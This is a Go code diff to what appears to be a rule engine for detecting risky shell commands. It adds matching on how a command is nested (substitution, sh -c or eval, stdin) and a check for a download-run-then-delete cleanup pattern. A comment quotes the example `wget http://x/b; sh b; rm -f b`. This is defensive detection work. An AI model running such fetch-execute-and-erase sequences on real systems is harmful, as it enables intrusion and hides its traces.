@@ -55,6 +55,10 @@ type Branch struct {
 	Env *regexp.Regexp
 	// NestedIn: the command runs inside the payload or substitution of a listed program.
 	NestedIn []string
+	// Via: how the command is nested: subst ($(...), backticks, <(...)), script (sh -c, eval)
+	// or stdin (echo '...' | sh); "" for any.
+	Via string
+	via shell.Via
 	// Wrapped: one of these wrappers was peeled off the command (nohup, busybox, sudo...).
 	Wrapped []string
 	// Bare: the command has no arguments (true) or has some (false); unset, either.
@@ -69,6 +73,9 @@ type Branch struct {
 	// the many ways of doing it are written once (here and in the shared lists readers,
 	// writers, deleters) rather than in every rule: see readsFile, writesFile, deletesFile.
 	Reads, Writes, Deletes *regexp.Regexp
+	// Cleanup: a deleter removes a file an earlier command of the line ran, downloaded, made
+	// executable or wrote (`wget http://x/b; sh b; rm -f b`), or the running script ($0).
+	Cleanup *bool
 
 	progs, pipedTo, pipedFrom, nestedIn, wrapped map[string]bool
 }
@@ -77,8 +84,11 @@ type Branch struct {
 var branchKeys = map[string]bool{
 	"program": false, "path": false, "args": false, "not_args": false, "redirect": false,
 	"input": false, "piped_to": false, "piped_from": false, "nested_in": false, "wrapped": false,
-	"bare": false, "background": false, "piped": false, "env": false, "arg": false, "not_arg": false, "line": false, "reads": false, "writes": false, "deletes": false,
+	"bare": false, "background": false, "piped": false, "env": false, "arg": false, "not_arg": false, "cleanup": false, "via": false, "line": false, "reads": false, "writes": false, "deletes": false,
 }
+
+// viaNames are the values of a branch's via key.
+var viaNames = map[string]shell.Via{"subst": shell.Subst, "script": shell.Script, "stdin": shell.Stdin}
 
 // structure parses match.when into r.branches.
 func (p *parser) structure(n *yaml.Node, r *Rule, used map[string]bool) {
@@ -174,6 +184,15 @@ func (p *parser) structure(n *yaml.Node, r *Rule, used map[string]bool) {
 		b.Arg, b.NotArg = whole(keys["arg"], "arg"), whole(keys["not_arg"], "not_arg")
 		b.Redirect, b.Input, b.Line = re("redirect"), re("input"), re("line")
 		b.Bare, b.Background, b.Piped = flag("bare"), flag("background"), flag("piped")
+		b.Cleanup = flag("cleanup")
+		if kn := keys["via"]; kn != nil {
+			b.Via = p.str(kn, field+".via")
+			v, ok := viaNames[b.Via]
+			if !ok {
+				p.errorf(kn, field+".via", ErrBadValue, "%q: want subst, script or stdin", b.Via)
+			}
+			b.via = v
+		}
 		b.Reads, b.Writes, b.Deletes = re("reads"), re("writes"), re("deletes")
 		for key, list := range map[string]string{"reads": "readers", "writes": "writers", "deletes": "deleters"} {
 			if keys[key] != nil {
@@ -229,6 +248,7 @@ func (b *Branch) holds(c *command, buf *[]byte) bool {
 		b.pipedTo != nil && !pipeHas(cmds, cmd.PipedTo, b.pipedTo, true),
 		b.pipedFrom != nil && !pipeHas(cmds, cmd.PipedFrom, b.pipedFrom, false),
 		b.nestedIn != nil && (cmd.Parent < 0 || !b.nestedIn[cmds[cmd.Parent].Name]),
+		b.Via != "" && (cmd.Parent < 0 || cmd.Via != b.via),
 		b.wrapped != nil && !anyIn(cmd.Wrappers, b.wrapped),
 		b.Path != nil && !b.Path.MatchString(cmd.Path):
 		return false
@@ -247,7 +267,68 @@ func (b *Branch) holds(c *command, buf *[]byte) bool {
 		b.Deletes != nil && !deletesFile(cmd, b.Deletes) {
 		return false
 	}
+	if b.Cleanup != nil && *b.Cleanup != cleansUp(cmds, c.i) {
+		return false
+	}
 	return b.Line == nil || b.Line.MatchString(c.line.Text)
+}
+
+// cleansUp reports whether command i deletes what an earlier command of the line touched.
+func cleansUp(cmds []shell.Command, i int) bool {
+	c := &cmds[i]
+	if !inList("deleters", c.Name) {
+		return false
+	}
+	for _, a := range c.Args {
+		if a == "$0" || a == `"$0"` {
+			return true
+		}
+		if strings.HasPrefix(a, "-") {
+			continue
+		}
+		name := baseName(a)
+		for j := 0; j < i; j++ {
+			if touches(&cmds[j], name) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// touches reports whether c ran, fetched, chmod-ed or wrote a file of base name name.
+func touches(c *shell.Command, name string) bool {
+	if name == "" || name == "*" {
+		return false
+	}
+	if strings.Contains(c.Path, "/") && baseName(c.Path) == name {
+		return true
+	}
+	for _, r := range c.Redirs {
+		if r.Writes() && baseName(r.Target) == name {
+			return true
+		}
+	}
+	switch {
+	case c.Name == "chmod" || isShellName(c.Name) || inList("fetchers", c.Name):
+		for _, a := range c.Args {
+			if !strings.HasPrefix(a, "-") && baseName(a) == name {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+func isShellName(n string) bool { return inList("shells", n) }
+
+// baseName is the last element of a path or URL.
+func baseName(p string) string {
+	p = strings.TrimRight(p, "/")
+	if i := strings.LastIndexByte(p, '/'); i >= 0 {
+		return p[i+1:]
+	}
+	return p
 }
 
 // operand strips an option's name from an argument: `if=/x` and `--file=/x` give /x, `-x`
@@ -378,7 +459,7 @@ func inList(name, s string) bool {
 }
 
 func init() {
-	for _, name := range []string{"readers", "writers", "deleters"} {
+	for _, name := range []string{"readers", "writers", "deleters", "fetchers", "shells"} {
 		set := map[string]bool{}
 		for _, s := range Lists()[name] {
 			set[s] = true
